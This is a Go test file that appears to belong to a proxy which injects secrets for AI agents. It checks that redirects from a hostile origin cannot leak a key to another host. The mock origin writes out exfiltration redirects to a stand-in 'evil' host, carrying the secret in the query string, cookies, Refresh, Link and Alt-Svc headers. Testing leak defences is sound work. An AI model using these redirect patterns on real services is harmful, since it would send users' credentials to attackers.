package mitm_test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/agentsecrets/agentsecrets/internal/lab"
	"github.com/agentsecrets/agentsecrets/internal/style"
)

// redirector sends every request on to another host with the value in each field
// that could carry it there. It notes who was asked for what.
type redirector struct {
	status int
	mu     sync.Mutex
	asked  []seen
}

func (o *redirector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	o.mu.Lock()
	o.asked = append(o.asked, seen{Method: r.Method, Target: r.RequestURI, Host: r.Host, Header: r.Header})
	o.mu.Unlock()
	if !strings.HasPrefix(r.Host, host) {
		fmt.Fprint(w, "here I am")
		return
	}
	_, port, _ := strings.Cut(r.Host, ":")
	v := r.Header.Get("X-Key")
	to := fmt.Sprintf("https://%s:%s/take?k=%s&b=%s", evil, port, url.QueryEscape(v), url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(v))))
	h := w.Header()
	h.Set("Location", to)
	h.Set("Refresh", "0; url="+to)
	h.Set("Link", "<"+to+">; rel=preload")
	h.Set("Content-Location", to)
	h.Set("Set-Cookie", "k="+url.PathEscape(v)+"; Domain="+evil)
	h.Set("Alt-Svc", `h3="`+evil+`:443"`)
	w.WriteHeader(o.status)
	fmt.Fprintf(w, `<meta http-equiv="refresh" content="0; url=%s"><a href="%s">`, strings.ReplaceAll(to, "&", "&amp;"), to)
}

func (o *redirector) hosts(h string) (n int, all string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, s := range o.asked {
		if strings.HasPrefix(s.Host, h) {
			n++
			all += fmt.Sprintln(s)
		}
	}
	return n, all
}

// A redirect is the client's to follow. What it is told holds no value, and its
// next request is judged as any other: the other host gets nothing.
func TestD6Redirects(t *testing.T) {
	eachProtocol(t, func(t *testing.T, change func(*lab.Config)) {
		for _, status := range []int{300, 301, 302, 303, 305, 307, 308} {
			o := &redirector{status: status}
			cfg := lab.Config{Secrets: secrets, Allow: []string{host}, Origin: o}
			change(&cfg)
			l := lab.New(t, cfg)
			req, _ := http.NewRequest("POST", l.URL(host, "/"), strings.NewReader("{}"))
			req.Header.Set("X-Key", "AS_SECRET_KEY")
			resp, body := send(t, l.Client, req)
			if n, _ := o.hosts(evil); resp.StatusCode != status || n > 0 {
				t.Fatalf("%d: the client got %d, and the other host was asked %d times", status, resp.StatusCode, n)
			}
			noEcho(t, "the body", body)
			for _, field := range []string{"Location", "Refresh", "Link", "Content-Location", "Set-Cookie"} {
				noEcho(t, field, resp.Header.Get(field))
				wantMarker(t, field, resp.Header.Get(field))
			}
			if resp.Header.Get("Alt-Svc") != "" {
				t.Error("the way past us by HTTP/3 is offered")
			}
			next, err := url.Parse(resp.Header.Get("Location"))
			if err != nil || next.Hostname() != evil {
				t.Fatalf("%d: Location is %q", status, resp.Header.Get("Location"))
			}
			for _, head := range []http.Header{{"X-Key": {"AS_SECRET_KEY"}}, bearer("KEY"), {"Cookie": {"k=AS_SECRET_KEY"}}} {
				req, _ := http.NewRequest("GET", next.String(), nil)
				req.Header = head
				resp, body := send(t, l.Client, req)
				wantProblem(t, resp, body, 403, "domain_not_in_allowlist")
			}
			if n, _ := o.hosts(evil); n > 0 {
				t.Errorf("%d: the other host was asked %d times", status, n)
			}
			if resp, body := do(t, l, "GET", next.String(), "", nil); resp.StatusCode != 200 || body != "here I am" {
				t.Errorf("without a placeholder: %d %s", resp.StatusCode, body)
			}
			_, all := o.hosts(evil)
			noEcho(t, "what the other host got", all)
		}
	})
}

// Nor does a call follow one, though nobody else could.
func TestD6CallsFollowNone(t *testing.T) {
	for _, status := range []int{301, 302, 303, 307, 308} {
		o := &redirector{status: status}
		l := lab.New(t, lab.Config{Secrets: secrets, Allow: []string{host, evil}, Origin: o})
		resp, _ := call(t, l, "GET", l.URL(host, "/"), "", style.Styles{Header: []style.Pair{{Field: "X-Key", Text: "KEY"}}})
		here, _ := o.hosts(host)
		if n, _ := o.hosts(evil); resp.StatusCode != status || n > 0 || here != 1 {
			t.Errorf("%d: answered with %d, this host was asked %d times and the other %d times", status, resp.StatusCode, here, n)
		}
		noEcho(t, "the head", fmt.Sprint(resp.Header))
	}
}
